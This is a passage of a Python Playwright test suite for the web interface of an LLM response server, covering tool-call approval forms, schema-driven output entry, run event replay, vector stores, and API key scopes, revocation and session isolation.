    chip, close = (page.locator(f".attached {each}").bounding_box() for each in (".chip", "button"))
    assert chip is not None and close is not None and close["x"] + close["width"] <= chip["x"] + chip["width"]
    store = server.post("/v1/vector_stores", {"name": "papers"})["id"]
    stores = visit.page(f"#/stores/{store}", ".section-head select")
    stores.wait_for_selector(".section-head option >> nth=1", state="attached")
    stores.set_viewport_size({"width": 390, "height": 800})
    head, add = (stores.locator(f".section-head {each}").bounding_box() for each in ("h2", "button"))
    assert head is not None and head["height"] < 30
    assert add is not None and add["x"] + add["width"] <= 390
    # The keyboard looks through the files; the button adds one.
    stores.focus(".section-head select")
    stores.keyboard.press("ArrowDown")
    with stores.expect_request("**/files") as added:
        stores.click(".section-head button >> text=Add")
    assert added.value.method == "POST"
    assert page.inner_text(".attached .clip").endswith("\ufffdgpj.exe")
    page.click(".attached button")
    page.wait_for_selector(".attached", state="detached")


def test_a_store_that_was_deleted_is_searched_no_more(visit: Visit, server: Server) -> None:
    store = server.post("/v1/vector_stores", {"name": "Old papers"})["id"]
    page = visit.page()
    page.click("[aria-label=Tools]")
    page.check("text=File search")
    page.wait_for_selector(".composer-note >> text=Choose a store under Tools.")
    page.check("text=Old papers")
    page.wait_for_selector(".composer-note", state="detached")
    assert httpx.delete(f"{server.url}/v1/vector_stores/{store}").status_code == 200
    page.reload()
    page.wait_for_selector(".composer-note >> text=Choose a store under Tools.")
    assert store not in page.evaluate("sessionStorage.getItem('antiphon.settings')")
    page.click("[aria-label=Tools]")
    page.uncheck(".popover >> text=File search")
    page.wait_for_selector(".composer-note", state="detached")


WEATHER = {
    "type": "function",
    "name": "get_weather",
    "strict": False,
    "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
    "output_schema": {
        "type": "object",
        "required": ["sky", "degrees"],
        "properties": {"sky": {"enum": ["clear", "grey"]}, "degrees": {"type": "integer"}},
    },
}


def test_calls_wait_to_be_approved_and_answered_by_forms(visit: Visit, server: Server) -> None:
    page = visit.page()
    page.set_viewport_size({"width": 700, "height": 380})
    page.click("[aria-label=Tools]")
    tools = page.locator(".popover").bounding_box()
    assert tools is not None and tools["y"] >= 0 and tools["y"] + tools["height"] <= 380
    page.set_viewport_size({"width": 1280, "height": 800})
    page.check("text=Built-in tools")
    page.check("text=Ask me before each call")
    page.fill("[role=dialog] textarea", "{")
    page.keyboard.press("Escape")
    page.fill("#composer", "say nothing yet")
    page.wait_for_selector(".composer-note >> text=This is no JSON")
    assert page.is_disabled("[aria-label=Send]")
    page.click("[aria-label=Tools]")
    page.fill("[role=dialog] textarea", json.dumps(WEATHER))
    page.keyboard.press("Escape")
    ask(page, 'call calculator {"expression": "6*7"}')
    page.wait_for_selector("text=Approve")
    page.press("#composer", "Enter")
    page.wait_for_selector(".composer-note >> text=waits for you")
    page.click("text=Approve")
    says(page, "The tool said: 42")
    # The approval and the call that was made upon it are one card.
    page.wait_for_selector("details.call >> text=approved")
    assert page.locator(".call-card").count() == 0
    ask(page, 'call get_weather {"city": "Oslo"}')
    page.wait_for_selector("form.answer")
    # It waits without anybody, and over the end of the server.
    waiting = visit.page("#/waiting", "form.answer")
    until(waiting, "/ends in (23|24)h/.test(document.querySelector('.card.waits').innerText)")
    assert waiting.locator(".count").inner_text() == "1"
    waiting.select_option("form.answer select", "grey")
    waiting.fill("form.answer input[type=number]", "-3")
    waiting.click("text=Send output")
    waiting.wait_for_selector("text=Nothing waits")
    says(page, 'The tool said: {"sky":"grey","degrees":-3}')


def asked_for(server: Server, schema: dict[str, Any]) -> str:
    """A response that waits for an output of this schema; its id."""
    asked: dict[str, Any] = {"input": "call get_weather {}", "tools": [{**WEATHER, "output_schema": schema}]}
    made = server.post("/v1/responses", {**asked, "background": True, "await_tool_outputs": True})
    return str(made["id"])


def given(server: Server, response: str) -> Any:
    """The output that a response got for its call."""
    output = server.get(f"/v1/responses/{response}?wait=20")["output"]
    (said,) = [item["output"] for item in output if item["type"] == "function_call_output"]
    return json.loads(said)


def test_a_form_invents_no_value(visit: Visit, server: Server) -> None:
    kinds: dict[str, Any] = {
        "temp": {"type": "number"},
        "sky": {"type": "string"},
        "note": {"type": "string"},
        "ok": {"type": "boolean"},
        "tags": {"type": "array", "items": {"type": "string"}},
        "more": {},
        "unit": {"enum": ["C", "F"], "default": "C"},
    }
    schema = {"type": "object", "properties": kinds, "required": [*kinds]}
    asked = asked_for(server, schema)
    page = visit.page("#/waiting", "form.answer")
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.method))
    wanting = "document.querySelectorAll('form.answer :is(input, select, textarea):invalid').length"
    for number, fill in (
        (6, lambda: page.locator("input[type=number]").press_sequentially("-1.05")),
        (5, lambda: page.get_by_label("sky", exact=True).fill("grey")),
        (4, lambda: page.get_by_label("note is an empty text").check()),
        (3, lambda: page.get_by_label("ok").select_option("false")),
        (2, lambda: page.get_by_label("tags is an empty list").check()),
        (1, lambda: page.get_by_label("more (JSON)").fill("null")),
    ):
        assert page.evaluate(wanting) == number
        page.click("text=Send output")
        fill()
    assert "POST" not in sent and page.evaluate(wanting) == 0
    page.click("text=Send output")
    page.wait_for_selector("text=Nothing waits")
    assert given(server, asked) == {
        "temp": -1.05,
        "sky": "grey",
        "note": "",
        "ok": False,
        "tags": [],
        "more": None,
        "unit": "C",
    }


def test_a_form_takes_what_its_schema_allows(visit: Visit, server: Server) -> None:
    kinds: dict[str, Any] = {
        "city": {"type": "string", "pattern": "sl"},
        "code": {"type": "string", "pattern": "^[A-Z]+$"},
        "sizes": {"type": "object", "additionalProperties": {"type": "integer"}},
    }
    asked = asked_for(server, {"type": "object", "properties": kinds, "required": [*kinds]})
    page = visit.page("#/waiting", "form.answer")
    wanting = "document.querySelectorAll('form.answer :is(input, select, textarea):invalid').length"
    assert page.evaluate(wanting) == 3
    page.get_by_label("city", exact=True).fill("Bergen")
    page.get_by_label("code", exact=True).fill("NO1")
    assert page.evaluate(wanting) == 3
    page.get_by_label("city", exact=True).fill("Oslo")
    page.get_by_label("code", exact=True).fill("NO")
    page.get_by_label("sizes (JSON)").fill('{"a": 1}')
    assert page.evaluate(wanting) == 0
    page.click("text=Send output")
    page.wait_for_selector("text=Nothing waits")
    assert given(server, asked) == {"city": "Oslo", "code": "NO", "sizes": {"a": 1}}


def test_a_form_changes_no_large_number(visit: Visit, server: Server) -> None:
    kinds: dict[str, Any] = {"id": {"type": "integer"}, "ids": {}}
    asked = asked_for(server, {"type": "object", "properties": kinds, "required": [*kinds]})
    page = visit.page("#/waiting", "form.answer")
    one, some = page.get_by_label("id", exact=True), page.get_by_label("ids (JSON)")
    large = "9007199254740993"  # a double has only the one before it
    one.fill(large)
    some.fill(f'[{{"id": {large}}}]')
    for field, shown in ((one, large), (some, f'[{{"id": {large}}}]')):
        assert "As text" in field.evaluate("(field) => field.validationMessage")
        assert field.input_value() == shown
    one.fill("-9007199254740991")
    some.fill('[1, "9007199254740993"]')
    for field in (one, some):
        assert field.evaluate("(field) => field.validationMessage") == ""
    page.click("text=As text")
    page.fill("form.answer textarea", f'{{"id": {large}, "ids": []}}')
    page.click("text=Send output")
    page.wait_for_selector("text=Nothing waits")
    assert given(server, asked) == {"id": int(large), "ids": []}


def test_a_row_that_is_removed_leaves_the_others_as_they_are(visit: Visit, server: Server) -> None:
    asked = asked_for(server, {"type": "array", "items": {}})
    page = visit.page("#/waiting", "form.answer")
    for number in (1, 2, 3):
        page.click("text=Add")
        page.get_by_label(f"{number} (JSON)").fill(str(number * 10))
    page.click("[aria-label='Remove 2']")
    page.wait_for_selector("[aria-label='Remove 3']", state="detached")
    rows = page.locator("form.answer textarea")
    assert [rows.nth(index).input_value() for index in range(rows.count())] == ["10", "30"]
    page.click("text=Send output")
    page.wait_for_selector("text=Nothing waits")
    assert given(server, asked) == [10, 30]


def test_a_response_that_ended_with_a_call_goes_on(visit: Visit, server: Server) -> None:
    conversation = server.post("/v1/conversations", {})["id"]
    tool = {"type": "mcp", "server_label": "here", "server_url": "builtin:", "require_approval": "always"}
    asked = {"input": 'call calculator {"expression": "6*7"}', "tools": [tool], "conversation": conversation}
    server.post("/v1/responses", asked)
    page = visit.page(f"#/chat/{conversation}", "text=Approve")
    page.click("text=Approve")
    says(page, "The tool said: 42")
    until(page, "!document.querySelector('.call-card')")
    page.reload()
    says(page, "The tool said: 42")
    page.wait_for_selector("details.call >> text=approved")
    assert page.locator(".call-card").count() == 0


def test_of_calls_at_once_those_that_are_answered_wait_no_more(visit: Visit, server: Server) -> None:
    conversation = server.post("/v1/conversations", {})["id"]
    tools = [{"type": "function", "strict": False, "name": name} for name in ("f", "g", "h")]
    asked = {"input": "call f {}\ncall g {}\ncall h {}", "tools": tools, "conversation": conversation}
    made = server.post("/v1/responses", {**asked, "background": True, "await_tool_outputs": True})["id"]
    page = visit.page(f"#/chat/{conversation}", "form.answer >> nth=2")
    page.fill("form.answer >> nth=0 >> textarea", "one")
    page.click("text=Send output >> nth=0")
    page.wait_for_selector(".toast >> text=Answered")
    page.wait_for_selector("details.call:has-text('f') >> .state >> text=answered")
    assert page.locator("form.answer").count() == 2
    run = visit.page(f"#/runs/{made}")
    run.click("#tab-items")
    waiting = visit.page("#/waiting", "form.answer")
    page.reload()
    for each in (page, run, waiting):
        each.wait_for_selector("form.answer >> nth=1")
        assert each.locator("form.answer").count() == 2
    waiting.fill("form.answer >> nth=0 >> textarea", "two")
    waiting.click("text=Send output >> nth=0")
    waiting.wait_for_selector("form.answer >> nth=1", state="detached")
    # What was answered elsewhere is known at the latest with the next answer.
    run.fill("form.answer >> nth=0 >> textarea", "two, too")
    run.click("text=Send output >> nth=0")
    run.wait_for_selector("form.answer >> nth=1", state="detached")
    assert run.locator(".state >> text=answered").count() == 2
    run.fill("form.answer textarea", "three")
    run.click("text=Send output")
    says(page, "The tool said: one; two; three")


def test_an_output_that_is_typed_stays_while_one_looks_elsewhere(visit: Visit, server: Server) -> None:
    asked = {"input": 'call get_weather {"city": "Oslo"}', "tools": [{**WEATHER, "output_schema": None}]}
    made = server.post("/v1/responses", {**asked, "background": True, "await_tool_outputs": True})["id"]
    page = visit.page("#/waiting", "form.answer")
    page.fill("form.answer textarea", "half of")
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")
    page.click("nav >> text=Waiting")
    page.wait_for_selector("form.answer")
    assert page.input_value("form.answer textarea") == "half of"
    server.post(f"/v1/responses/{made}/cancel", {})


def test_the_focus_goes_on_where_one_does(visit: Visit, server: Server) -> None:
    conversation = server.post("/v1/conversations", {})["id"]
    tools = [{"type": "function", "strict": False, "name": name} for name in ("f", "g")]
    asked = {"input": "call f {}\ncall g {}", "tools": tools, "conversation": conversation}
    server.post("/v1/responses", {**asked, "background": True, "await_tool_outputs": True})
    page = visit.page(f"#/chat/{conversation}", "form.answer >> nth=1")
    for _ in range(2):
        page.fill("form.answer >> nth=0 >> textarea", "one")
        page.press("form.answer button >> nth=0", "Enter")
        until(page, "document.activeElement.tagName === 'TEXTAREA'")
    page.wait_for_selector("#composer:focus")
    page.fill("#composer", "tick 30\ncount 2000")
    page.keyboard.press("Enter")
    page.wait_for_selector("[aria-label=Stop]:not([disabled])")
    page.press("[aria-label=Stop]", "Enter")
    page.wait_for_selector("#composer:focus")
    page.press("button:has-text('Try again')", "Enter")
    page.wait_for_selector("#composer:focus")
    page.wait_for_selector("[aria-label=Stop]:not([disabled])")
    page.click("[aria-label=Stop]")


def test_a_tab_and_the_palette_say_what_is(visit: Visit) -> None:
    page = visit.page()
    page.click("[aria-label='How to answer']")
    page.fill("[aria-label='How to answer'] [type=number][min='16']", "16")
    page.keyboard.press("Escape")
    ask(page, "count 50")
    page.wait_for_selector("text=Ended early: max output tokens.")
    until(page, "document.title === 'count 50 · Antiphon'")
    page.reload()
    page.wait_for_selector("text=Ended early: max output tokens.")
    page.wait_for_selector("[aria-label='Colours: as the system']")
    page.keyboard.press("Control+k")
    page.keyboard.type("light, dark")
    page.keyboard.press("Enter")
    page.wait_for_selector("[aria-label='Colours: light']")
    page.click("nav >> text=Usage")
    until(page, "document.title === 'Usage · Antiphon'")


def test_a_conversation_without_a_title_is_called_by_what_was_said_first(
    visit: Visit, server: Server
) -> None:
    conversation = server.post("/v1/conversations", {})["id"]
    for words in ("say of\n oysters", "say of eels"):
        server.post("/v1/responses", {"input": words, "conversation": conversation})
    server.post("/v1/conversations", {})
    page = visit.page("#/conversations", "nav .connection >> text=Connected")
    page.wait_for_selector(f"a[href='#/conversations/{conversation}'] >> text='say of oysters'")
    page.fill("[aria-label='Search conversations']", "oysters")
    page.wait_for_selector("text=Untitled", state="detached")
    page.click(f"a[href='#/conversations/{conversation}']")
    page.wait_for_selector("h2 >> text='say of oysters'")
    page.click("text=Open")
    page.wait_for_selector("h1 >> text='say of oysters'")


def test_names_are_asked_for_in_sight_and_once(visit: Visit, server: Server) -> None:
    made = [server.post("/v1/conversations", {})["id"] for _ in range(60)]
    titled = server.post("/v1/conversations", {"metadata": {"title": "Of metadata"}})["id"]
    asked: list[str] = []
    page = visit.page("#/usage")
    page.on("request", lambda request: asked.extend(re.findall(r"/(conv_\w+)/items", request.url)))

    def see(row: int) -> str:
        """Have a row of the tree in sight, and its name asked for; its conversation."""
        here = f".tree li:nth-child({row}) a"
        found = (page.get_attribute(here, "href") or "").rpartition("/")[2]
        assert found not in asked
        with page.expect_request(f"**/{found}/items?*"):
            page.locator(here).scroll_into_view_if_needed()
        return found

    page.evaluate("location.hash = '#/conversations'")
    page.wait_for_selector(f"a[href='#/conversations/{titled}'] >> text='Of metadata'")
    see(60)
    seen = list(asked)
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")
    page.evaluate("location.hash = '#/conversations'")
    page.wait_for_selector(f"a[href='#/conversations/{titled}']")
    see(30)  # behind all that would be asked for again, since each waits for those before it
    assert len(asked) == len(set(asked)) > len(seen) > 1 and titled not in asked
    for each in (*made, titled):
        httpx.delete(f"{server.url}/v1/conversations/{each}")


def test_a_call_is_declined(visit: Visit, server: Server) -> None:
    tool = {"type": "mcp", "server_label": "here", "server_url": "builtin:", "require_approval": "always"}
    body = {"input": 'call calculator {"expression": "1"}', "tools": [tool], "background": True}
    response = server.post("/v1/responses", {**body, "await_tool_outputs": True})
    page = visit.page("#/waiting", "text=Decline")
    page.fill("[aria-label='Reason, if you decline']", "No sums.")
    page.click("text=Decline")
    page.wait_for_selector("text=Nothing waits")
    ended = server.get(f"/v1/responses/{response['id']}?wait=20")
    (answer,) = [item for item in ended["output"] if item["type"] == "mcp_approval_response"]
    assert (answer["approve"], answer["reason"]) == (False, "No sums.")
    # How long it waited for that is told apart from the rest.
    log = server.get(f"/v1/responses/{response['id']}/events")
    answers = (event.get("item", {}).get("type") == "mcp_approval_response" for event in log["data"])
    index = next(index for index, answered in enumerate(answers) if answered)
    waited = log["times"][index] - log["times"][index - 1]
    said = "under 1 s" if waited < 1 else f"{waited:.0f} s"
    visit.page(f"#/runs/{response['id']}", f".facts div:has-text('of it waiting') >> text='{said}'")


# ------------------------------------------------------------------------------------------------------------
# Runs


TIMED = "[...document.querySelectorAll('.event .at')].every((time) => /^[0-9.]+ m?s$/.test(time.textContent))"
"""Every event in sight says when it was made."""


def test_a_run_is_followed_replayed_and_cancelled(visit: Visit, server: Server) -> None:
    body = {"input": "tick 40\ncount 2000", "background": True}
    response = server.post("/v1/responses", body)
    runs = visit.page("#/runs?status=in_progress", "a.cover")
    runs.click(f"[aria-label='Run {response['id']}']")
    # The pieces of a text are one row, which says how many there are, and what they say.
    runs.wait_for_selector(".event .text >> text=1 2 3")
    assert runs.locator(".event >> text=output_text.delta").count() == 1
    until(runs, "parseInt(document.querySelector('[role=tab] small').textContent) > 20")
    until(runs, TIMED)  # those that come while it is watched
    runs.click("text=Cancel")
    runs.wait_for_selector(".facts >> text=cancelled")
    until(runs, r"/Lasted\s+(under )?\d+ s/.test(document.querySelector('.facts').innerText)")
    runs.fill("[aria-label='Replay from event']", "7")
    runs.click(".replay button")
    until(runs, "document.querySelector('.event .seq')?.textContent === '7'")
    runs.click(".event >> nth=0")
    assert runs.inner_text("[aria-label='Text of these events']").startswith(" 3 4")
    runs.click(".event >> nth=0")
    runs.focus(".events")
    runs.keyboard.press("ArrowDown")
    runs.keyboard.press("ArrowRight")  # now its events stand below it, each in a row
    runs.wait_for_selector(".event.within >> nth=5")
    until(runs, TIMED)
    times = server.get(f"/v1/responses/{response['id']}/events?limit=8")["times"]
    made = times[7] - times[0]
    said = runs.inner_text(".event >> nth=0 >> .at")
    assert said == (f"{1000 * made:.0f} ms" if made < 1 else f"{made:.2f} s")
    number = runs.inner_text(".event >> nth=1 >> .seq")
    runs.click(".event >> nth=1")
    shown = json.loads(runs.inner_text(".event-detail pre"))
    stored = server.get(f"/v1/responses/{response['id']}/events?after=6&limit=1")["data"][0]
    assert (number, shown) == ("7", stored)
    with runs.expect_download() as downloading:
        runs.click("[aria-label='Save these events, one a line']")
    lines = Path(downloading.value.path()).read_text().splitlines()
    assert json.loads(lines[0]) == stored and json.loads(lines[-1])["type"] == "response.cancelled"
    runs.click("#tab-items")
    runs.wait_for_selector(".item-row >> text=message")
    runs.click("#tab-usage")
    runs.wait_for_selector("text=Tool outputs")
    statuses: list[int] = []
    runs.on("response", lambda reply: statuses.append(reply.status))
    runs.click(".page-head >> text=Fork")
    runs.wait_for_selector("text=A fork was not run")
    assert runs.inner_text(".facts div:has-text('Tokens') dd") != "0 + 0" and max(statuses) < 400


# ------------------------------------------------------------------------------------------------------------
# Another server


@pytest.fixture(scope="module")
def other(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose clients are older, and one of whose models is not loaded."""
    data = tmp_path_factory.mktemp("other")
    (data / "models.toml").write_text('[[models]]\nname = "later"\nengine = "scripted"\nchild = true\n')
    with serving(data, "--responses-profile", "legacy") as made:
        yield made


@pytest.fixture
def visit_other(browser: Browser, other: Server) -> Iterator[Visit]:
    with visiting(browser, other) as visitor:
        yield visitor


@pytest.mark.long
def test_older_names_of_events_and_models_on_demand(visit_other: Visit, other: Server) -> None:
    asked = {"input": 'call get_weather {"city": "Oslo"}', "tools": [WEATHER], "background": True}
    conversation = other.post("/v1/conversations", {})["id"]
    other.post("/v1/responses", {**asked, "await_tool_outputs": True, "conversation": conversation})
    page = visit_other.page(f"#/chat/{conversation}", "form.answer")
    page.select_option("form.answer select", "clear")
    page.fill("form.answer input[type=number]", "-3")
    page.click("text=Send output")
    says(page, 'The tool said: {"sky":"clear","degrees":-3}')
    # The selector and the page of the engine tell which models are loaded, also once that has changed.
    engine = visit_other.page("#/engine", "tr:has-text('later') >> text=not loaded")
    page.select_option(".model select", "later")
    page.wait_for_selector(".model option >> text=later (not loaded)", state="attached")
    ask(page, "say loaded")
    says(page, "loaded")
    page.wait_for_selector(".model option >> text='later'", state="attached", timeout=4000)
    engine.wait_for_selector("tr:has-text('later') >> text='loaded'")


def test_how_saved_kv_stands_is_said_in_words(visit: Visit) -> None:
    page = visit.page("#/engine", "text=Nothing is kept on disk.")
    page.route(
        "**/metrics",
        lambda route: route.fulfill(
            body="""antiphon_kv_disk_state{model="a",state="full"} 1.0
antiphon_kv_disk_state{model="b",state="foreign"} 1.0
antiphon_kv_disk_bytes{model="a"} 1048576.0
antiphon_kv_disk_bytes_limit{model="a"} 4194304.0
"""
        ),
    )
    page.wait_for_selector("text=a: The disk is full: nothing more is kept until it has room.")
    page.wait_for_selector("text=b: The folder belongs to another database")
    assert page.locator("text=Nothing is kept on disk.").count() == 0


def test_keys_have_limits_and_an_end(visit_other: Visit, other: Server) -> None:
    usage = visit_other.page("#/usage", "text=There are no limits on requests or tokens over time.")
    command = (
        "keys",
        "create",
        "--owner",
        "local",
        "--scope",
        "all",
        "--scope",
        "admin",
        "--data",
        other.data,
    )
    made = subprocess.run(
        [sys.executable, "-m", "server.cli", *command], cwd=ROOT, capture_output=True, text=True, check=True
    )

    def use(page: Page, key: str) -> None:
        page.fill("dialog input", key)  # it opens by itself: the server needs a key now
        page.click("text=Use it")
        page.wait_for_selector("dialog", state="detached")

    keys = visit_other.page("#/keys")
    use(keys, made.stdout.split()[0])
    keys.click("text=New key")
    keys.fill("[name=name]", "small")
    radio, words = (keys.locator(f"label:has([name=whole]) >> {each} >> nth=0") for each in ("input", "span"))
    left, right = radio.bounding_box(), words.bounding_box()
    assert left is not None and right is not None and right["x"] - (left["x"] + left["width"]) < 20
    keys.check("text=Only what is chosen here")
    for scope in ("responses", "conversations", "usage"):
        keys.check(f"text='{scope}'")
    keys.fill("[name=requests_per_minute]", "5")
    keys.fill("[name=days]", "3")
    keys.fill("[name=more]", "model:*, modle:x")
    keys.click("text=Make it")
    keys.wait_for_selector("dialog >> text=there is no scope 'modle:x'")
    keys.fill("[name=more]", "model:*")
    keys.click("text=Make it")
    row = keys.wait_for_selector("tr:has-text('small')")
    assert row is not None and "5 requests a minute" in row.inner_text() and "in 3d" in row.inner_text()
    assert "responses, conversations, usage, model:*" in row.inner_text()
    # A key that may not list models can be used all the same, and the selector says why it is empty.
    # It is shown until it is put away, also to somebody who has pressed a shortcut.
    secret = keys.inner_text(".secret")
    keys.locator("h1").focus()
    keys.keyboard.press("g")
    keys.keyboard.press("r")
    keys.wait_for_selector("h1 >> text=Runs")
    keys.click("nav >> text=Keys")
    assert keys.inner_text(".secret") == secret
    keys.click("button >> text=Done")
    keys.wait_for_selector(".secret", state="detached")
    use(usage, secret)
    usage.click("nav >> text=Chat")
    usage.wait_for_selector(".model option >> text=this key may not list models", state="attached")
    ask(usage, "say a default")
    says(usage, "a default")
    usage.click("nav >> text=Usage")
    usage.wait_for_selector("text=5 requests a minute")
    usage.select_option(".page-head select", "project_id")
    usage.wait_for_selector("th >> text='owner'")


@contextmanager
def keyed(tmp_path: Path, *owners: str) -> Iterator[tuple[Server, dict[str, str]]]:
    """A server, and a key with the scopes `all` and `admin` for each of these owners."""
    with serving(tmp_path) as made:
        yield made, {owner: key_of(made, owner) for owner in owners}


def key_of(server: Server, owner: str) -> str:
    """A new key of this owner with the scopes `all` and `admin`."""
    scopes = ("--scope", "all", "--scope", "admin")
    command = ("keys", "create", "--owner", owner, *scopes, "--data", str(server.data))
    done = subprocess.run(
        [sys.executable, "-m", "server.cli", *command], cwd=ROOT, capture_output=True, check=True
    )
    return done.stdout.decode().split()[0]


def use_key(page: Page, key: str) -> None:
    """Give a key in the dialog, which is open."""
    page.fill("dialog input", key)
    page.click("text=Use it")


def test_another_key_sees_nothing_of_the_one_before(browser: Browser, tmp_path: Path) -> None:
    with keyed(tmp_path, "ann", "bob") as (server, keys), visiting(browser, server) as visitor:
        page = visitor.page("#/chat", "dialog")
        page.keyboard.press("Escape")
        page.fill("#composer", "tick 25\ncount 5000")
        page.click(".banner >> text=Use a key")
        use_key(page, keys["ann"])
        page.wait_for_selector("dialog", state="detached")
        assert page.input_value("#composer") == "tick 25\ncount 5000"  # a first key takes nothing away
        page.wait_for_selector(".model option >> text=scripted", state="attached")
        page.press("#composer", "Enter")
        begun(page)
        page.fill("#composer", "a secret draft")
        page.click("[aria-label='How to answer']")
        page.fill("[aria-label='How to answer'] textarea", "Be secret.")
        page.keyboard.press("Escape")
        with page.expect_event("requestfailed", lambda request: "/v1/responses" in request.url):
            page.click("nav [aria-label='Another key']")
            use_key(page, keys["bob"])
        page.wait_for_selector("#title >> text=New chat")
        page.wait_for_selector(".side-empty")
        assert page.locator(".turn").count() == 0 and page.input_value("#composer") == ""
        kept = page.evaluate("JSON.stringify(sessionStorage)")
        assert keys["bob"] in kept and "secret" not in kept and "conv_" not in kept
        page.click("nav [aria-label='Another key']")
        page.click("text=Forget the key")
        page.wait_for_selector("dialog >> text=This server needs a key.")
        assert page.evaluate("sessionStorage.getItem('antiphon.key')") is None


def test_a_key_sees_what_was_kept_without_one_if_it_is_of_the_same_owner(
    browser: Browser, tmp_path: Path
) -> None:
    with serving(tmp_path) as server, visiting(browser, server) as visitor:
        pages = [visitor.page(), visitor.page()]
        for page in pages:
            page.wait_for_selector(".model option >> text=scripted", state="attached")
            page.fill("#composer", "a draft of nobody's")
            page.click("[aria-label='How to answer']")
            page.fill("[aria-label='How to answer'] textarea", "Be brief.")
            page.keyboard.press("Escape")
        keys = {owner: key_of(server, owner) for owner in ("local", "ann")}
        for page, owner in zip(pages, keys, strict=True):
            page.reload()
            use_key(page, keys[owner])
            page.wait_for_selector("dialog", state="detached")
            page.wait_for_selector(".side-empty")
            kept = page.evaluate("JSON.stringify(sessionStorage)")
            assert keys[owner] in kept
            assert ("Be brief." in kept) == ("nobody" in kept) == (owner == "local")
            assert page.input_value("#composer") == ("a draft of nobody's" if owner == "local" else "")


def test_another_key_of_the_same_owner_goes_on(browser: Browser, tmp_path: Path) -> None:
    with (
        keyed(tmp_path, "ann") as (server, keys),
        visiting(browser, server) as visitor,
        httpx.Client(
            base_url=server.url, headers={"authorization": f"Bearer {keys['ann']}"}, timeout=30
        ) as client,
    ):
        projects = client.get("/v1/organization/projects").json()["data"]
        (project,) = [each["id"] for each in projects if each["name"] == "ann"]
        path = f"/v1/organization/projects/{project}/api_keys"
        lost = client.post(path, json={"name": "lost", "scopes": ["all"]}).json()
        page = visitor.page("#/chat", "dialog")
        use_key(page, lost["value"])
        page.wait_for_selector("dialog", state="detached")
        page.wait_for_selector(".model option >> text=scripted", state="attached")
        ask(page, "tick 30\ncount 200")
        begun(page)
        page.fill("#composer", "my draft")
        assert client.delete(f"{path}/{lost['id']}").status_code == 200
        page.wait_for_selector(".banner >> text=was revoked")
        page.wait_for_selector(".turn.assistant >> text=The server goes on with this answer.")
        assert page.locator("text=Try again").count() == 0
        assert page.locator("dialog").count() == 0, "it would take what is being written"
        page.press("#composer", "Enter")
        page.wait_for_selector("dialog >> text=was revoked")
        where = page.url
        use_key(page, keys["ann"])
        says(page, counted(200))
        assert (page.url, page.input_value("#composer")) == (where, "my draft")


def test_it_is_said_whom_a_revoked_key_shuts_out_or_lets_in(browser: Browser, tmp_path: Path) -> None:
    with keyed(tmp_path, "ann", "bob") as (server, keys), visiting(browser, server) as visitor:
        page = visitor.page("#/keys", "dialog")
        use_key(page, keys["ann"])
        other = visitor.page("#/usage", "dialog")
        use_key(other, keys["bob"])
        revoke = "section[aria-label={}] .row-actions > button"
        page.click(revoke.format("bob"))
        question = page.inner_text("dialog p")
        assert question == "Whoever uses this key is refused at once."
        page.click("dialog >> text=Revoke >> nth=-1")
        page.wait_for_selector("section[aria-label=bob] >> text=No keys.")
        other.wait_for_selector("dialog >> text=was revoked")
        other.keyboard.press("Escape")
        other.wait_for_selector(".banner >> text=was revoked")
        page.click(revoke.format("ann"))
        question = page.inner_text("dialog p")
        assert "the key that this tab uses" in question and "After this the server needs no key" in question
        assert page.evaluate("getComputedStyle(document.querySelector('dialog p')).textAlign") == "start"
        page.click("dialog >> text=Revoke >> nth=-1")
        page.wait_for_selector(".toast >> text=The server needs no key now.")
        assert httpx.get(f"{server.url}/v1/models").status_code == 200


def test_it_is_said_that_a_key_is_the_last_one_beside_expired_ones(browser: Browser, tmp_path: Path) -> None:
    with keyed(tmp_path, "ann") as (server, keys), visiting(browser, server) as visitor:
        headers = {"authorization": f"Bearer {keys['ann']}"}
        with httpx.Client(base_url=f"{server.url}/v1/organization/projects/", headers=headers) as http:
            [old] = http.get("ann/api_keys").json()["data"]
            made = http.post(f"ann/api_keys/{old['id']}/rotate", json={"grace_seconds": 0}).json()
        page = visitor.page("#/keys", "dialog")
        use_key(page, made["value"])
        row = f"section[aria-label=ann] tr:has-text('{made['value'][-4:]}')"
        page.click(f"{row} >> .row-actions > button")
        question = page.inner_text("dialog p")
        assert "It is the last key that is accepted" in question and "antiphon keys create" in question
        page.click("dialog >> text=Revoke >> nth=-1")
        page.wait_for_selector(".toast >> text=No key is accepted now.")
        assert httpx.get(f"{server.url}/v1/models").status_code == 401


# ------------------------------------------------------------------------------------------------------------
# Lists


def test_a_load_that_takes_longer_than_its_interval_is_waited_for(visit: Visit) -> None:
    page = visit.page("#/usage")
    page.clock.install()
    held: list[Route] = []
    page.route("**/v1/responses?limit=30", lambda route: held.append(route))
    with page.expect_request("**/v1/responses?limit=30"):
        page.evaluate("location.hash = '#/runs'")
    page.clock.run_for(20_000)
    assert len(held) == 1
    held[0].continue_()
    page.wait_for_selector("a.cover, .empty")


def test_of_many_runs_the_newest_are_asked_for_again(visit: Visit, server: Server) -> None:
    for number in range(32):
        server.post("/v1/responses", {"input": f"say run {number}"})
    page = visit.page("#/runs", "a.cover >> text='run 2'")
    assert page.locator("a.cover").count() == 30
    page.click("text=Show more")
    page.wait_for_selector("a.cover >> text='run 1'")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url.rpartition("/v1/responses?")[2]))
    server.post("/v1/responses", {"input": "say the newest"})
    page.wait_for_selector("tbody tr:first-child >> text='the newest'")
    assert page.locator("a.cover >> text='run 1'").count() == 1
    runs = {query for query in asked if query and "waiting" not in query}
    assert runs == {"limit=30"}


def test_what_waits_is_counted_from_a_few(visit: Visit, server: Server) -> None:
    asked = {"input": 'call get_weather {"city": "Oslo"}', "tools": [WEATHER], "background": True}
    made = [server.post("/v1/responses", {**asked, "await_tool_outputs": True})["id"] for _ in range(10)]
    page = visit.page("#/usage", "nav .count")
    until(page, "document.querySelector('nav .count').textContent === '9+'")
    for each in made:
        server.post(f"/v1/responses/{each}/cancel", {})
    page.wait_for_selector("nav .count", state="detached")


def paged(rows: list[dict[str, Any]]) -> Callable[[Route], None]:
    """What answers requests for the pages of a list that has these rows."""

    def answer(route: Route) -> None:
        query = dict(parse_qsl(urlsplit(route.request.url).query))
        start = next((at + 1 for at, row in enumerate(rows) if row["id"] == query.get("after")), 0)
